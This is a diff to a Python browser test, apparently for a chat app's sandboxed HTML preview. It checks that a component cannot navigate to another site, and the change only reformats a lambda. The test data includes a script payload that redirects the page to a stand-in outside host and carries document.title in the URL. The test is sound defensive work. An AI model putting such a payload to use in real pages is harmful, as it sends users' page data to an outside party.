@@ -83,7 +83,9 @@ def test_a_component_runs_and_reaches_nothing_outside_of_its_frame(browser: Brow
 def test_a_component_cannot_navigate_to_another_site(browser: BrowserContext, chat: Chat) -> None:
     reached = elsewhere(browser)
     leak = f"<script>location = '{ELSEWHERE}?' + encodeURIComponent(document.title)</script>"
-    with chat.page.expect_console_message(lambda said: "elsewhere.test" in said.text and "frame-src" in said.text):
+    with chat.page.expect_console_message(
+        lambda message: "elsewhere.test" in message.text and "frame-src" in message.text
+    ):
         preview(chat, "html", leak)
     assert reached == []
 
